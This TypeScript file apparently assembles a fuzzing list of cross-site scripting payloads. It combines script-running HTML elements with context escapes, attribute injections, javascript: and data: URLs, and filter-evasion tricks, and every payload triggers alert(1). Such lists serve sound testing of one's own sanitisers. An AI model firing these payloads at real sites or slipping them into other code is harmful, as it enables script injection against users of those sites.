/** Ways to run `alert(1)` on a page that prints what strangers wrote. Each is tried in every field. */

const CALLS = ['alert(1)', 'alert`1`', 'top[`al`+`ert`](1)', '(alert)(1)', 'window.onerror=alert;throw 1']

/** Elements that run something by themselves. */
const ELEMENTS = [
  (call: string) => `<script>${call}</script>`,
  (call: string) => `<img src=x onerror="${call}">`,
  (call: string) => `<svg onload="${call}">`,
  (call: string) => `<svg><script>${call}</script></svg>`,
  (call: string) => `<body onload="${call}">`,
  (call: string) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call: string) => `<iframe src="javascript:${call}"></iframe>`,
  (call: string) => `<details open ontoggle="${call}"><summary>x</summary></details>`,
  (call: string) => `<video><source onerror="${call}"></video>`,
  (call: string) => `<input autofocus onfocus="${call}">`,
  (call: string) => `<style onload="${call}"></style>`,
  (call: string) => `<marquee onstart="${call}">x</marquee>`,
  (call: string) => `<object data="javascript:${call}"></object>`,
  (call: string) => `<math><mtext><img src=x onerror="${call}"></mtext></math>`,
]

/** Ways out of where the text stands. */
const EXITS = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</template>',
  '--></noscript>',
  ']]>',
  '</bdi></p></main>',
  '"}\'>',
]

/** Ways to become an attribute of the element that is there. */
const ATTRIBUTES = [
  '" onfocus="alert(1)" autofocus="',
  "' onfocus='alert(1)' autofocus='",
  '" onmouseover=alert(1) x="',
  '` onerror=alert(1) `',
  '" style="animation-name:x" onanimationstart="alert(1)',
  '" formaction="javascript:alert(1)" x="',
  '" srcdoc="<script>alert(1)</script>" x="',
  '&quot; onfocus=&quot;alert(1)&quot; autofocus=&quot;',
]

/** Addresses that are programs. */
const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:alert(1)',
  '//evil.example/%0d%0a<script>alert(1)</script>',
  'https://evil.example/"><script>alert(1)</script>',
]

/** What parsers and filters stumble over. */
const ODD = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
  '<table background="javascript:alert(1)"></table>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<p id="</script><script>alert(1)</script>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<<script>alert(1)//<</script>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '＜script＞alert(1)＜/script＞',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="data:text/css,*{}" onload="alert(1)">',
  '<form action="javascript:alert(1)"><button autofocus>x</button></form>',
  '<a href="javascript:alert(1)" autofocus>x</a>',
  '\u202e<script>alert(1)</script>\u202c',
  '\0<script>alert(1)</script>',
]

export const PAYLOADS: readonly string[] = [
  ...ELEMENTS.flatMap((element) => EXITS.map((exit) => exit + element('alert(1)'))),
  ...CALLS.slice(1).flatMap((call) => ELEMENTS.slice(0, 5).map((element) => element(call))),
  ...ATTRIBUTES,
  ...ADDRESSES,
  ...ODD,
]
